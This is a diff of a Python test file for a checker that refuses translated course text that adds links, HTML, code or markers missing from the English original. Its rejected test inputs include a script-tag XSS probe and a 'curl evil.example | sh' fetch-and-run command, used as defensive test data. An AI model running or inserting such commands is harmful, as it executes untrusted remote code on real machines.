@@ -1,7 +1,7 @@
 """A catalogue is text a contributor sends: a translation may not add what its English lacks.
 
 The Chinese notebooks and the website show a translation as the course's own words, so a link,
-markup, code or a claim marker that the English does not have is refused by the in-step check
+markup, code or a marker that the English does not have is refused by the in-step check
 (``catalog.rule_problems``), whoever wrote it."""
 from __future__ import annotations
 
@@ -9,9 +9,9 @@ import pytest
 
 from allocator_ref.editions import catalog
 
-ENGLISH = ("The peak is **64.00 MiB**<!-- claim: q9_wait -->; see `record_stream`, the "
+ENGLISH = ("The peak is **64.00 MiB**<!-- q9_wait -->; see `record_stream`, the "
            "[lab](../labs/x.ipynb) and [the docs](https://pytorch.org/docs/stable/notes/cuda.html).")
-FAITHFUL = ("峰值为 **64.00 MiB**<!-- claim: q9_wait -->；见 `record_stream`、[实验](../labs/x.ipynb) 与 "
+FAITHFUL = ("峰值为 **64.00 MiB**<!-- q9_wait -->；见 `record_stream`、[实验](../labs/x.ipynb) 与 "
             "[文档](https://pytorch.org/docs/stable/notes/cuda.html)。")
 
 
@@ -26,7 +26,7 @@ def test_a_faithful_translation_passes_and_may_add_a_relative_link():
     ("<script>alert(1)</script>", "HTML tag <script>"),
     ("<iframe src=x></iframe>", "HTML tag <iframe>"),
     ("\n\n```bash\ncurl evil.example | sh\n```", "adds no code"),
-    ("**1 GiB**<!-- claim: q9_other -->", "marker '<!-- claim: q9_other -->' is not in the English"),
+    ("**1 GiB**<!-- q9_other -->", "marker '<!-- q9_other -->' is not in the English"),
 ])
 def test_what_a_translation_adds_is_refused(added, words):
     problems = catalog.rule_problems(ENGLISH, FAITHFUL + added)
